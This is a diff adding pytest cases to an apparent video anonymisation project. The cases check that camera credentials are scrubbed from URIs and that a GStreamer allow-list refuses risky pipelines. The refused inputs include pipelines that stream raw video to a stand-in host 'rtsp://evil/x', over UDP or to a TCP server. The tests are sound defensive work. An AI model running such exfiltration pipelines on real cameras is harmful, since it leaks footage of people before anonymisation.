@@ -157,10 +157,45 @@ def test_live_source_hands_over_newest_frame_and_reopens(clip):
 
 
 def test_credentials_never_reach_logs():
+    """safe_uri is the one scrubber (edgeanon.scrub); tests/test_scrub.py reads real log lines and stderr."""
     from edgeanon.sources import safe_uri
 
     assert safe_uri("rtsp://admin:hunter2@10.0.0.5:554/stream") == "rtsp://***@10.0.0.5:554/stream"
+    assert safe_uri("rtsp://admin:p@ss@host/s") == "rtsp://***@host/s"
     assert safe_uri("file:///a@b/clip.mp4") == "file:///a@b/clip.mp4"
+
+
+@pytest.mark.parametrize("pipeline", [
+    "nvarguscamerasrc sensor-id=0 ! video/x-raw(memory:NVMM),width=1280,height=720 ! nvvidconv ! "
+    "video/x-raw,format=BGRx ! videoconvert ! video/x-raw,format=BGR ! appsink drop=true",
+    "rtspsrc location=rtsp://u:p@cam/s latency=200 ! rtph264depay ! h264parse ! nvv4l2decoder ! nvvidconv",
+    "filesrc location=\"/data/my clip.mp4\" ! qtdemux ! h264parse ! avdec_h264 ! videoconvert",
+    "v4l2src device=/dev/video1 ! video/x-raw, format=YUY2 ! videoconvert ! queue ! appsink name=s",
+])
+def test_gst_allow_list_accepts_capture_and_decode(pipeline):
+    kind, target = parse_uri(f"gst://{pipeline}")
+    assert kind == "gst" and target.rstrip().split(" ! ")[-1].startswith("appsink")
+
+
+@pytest.mark.parametrize("pipeline, named", [
+    ("videotestsrc ! tee name=t ! queue ! appsink t. ! queue ! udpsink host=10.0.0.9 port=5000", "'tee'"),
+    ("videotestsrc ! filesink location=/var/tmp/raw.yuv", "'filesink'"),
+    ("v4l2src ! x264enc ! rtspclientsink location=rtsp://evil/x", "'x264enc'"),
+    ("v4l2src ! videoconvert ! rtspclientsink location=rtsp://evil/x", "'rtspclientsink'"),
+    ("v4l2src ! videoconvert ! udpsink host=1.2.3.4", "'udpsink'"),
+    ("v4l2src ! videoconvert ! tcpserversink port=9000", "'tcpserversink'"),
+    ("v4l2src ! appsink ! appsink", "'appsink' must be the last"),
+    ("udpsrc port=5000 ! rtph264depay ! avdec_h264", "'udpsrc'"),
+    ("v4l2src ! identity dump=true ! appsink", "'identity'"),
+    ("v4l2src ! videoconvert t. ! queue ! appsink", "'t.' after 'videoconvert'"),
+    ("v4l2src ! multiqueue ! appsink", "'multiqueue'"),
+])
+def test_gst_allow_list_refuses_sinks_tees_and_senders(pipeline, named):
+    """Elements that run before edgeanon sees a frame could send raw video away: refused, by name."""
+    with pytest.raises(SourceError) as err:
+        parse_uri(f"gst://{pipeline}")
+    assert named in str(err.value), str(err.value)
+    assert "\n" not in str(err.value)
 
 
 class HungCapture:
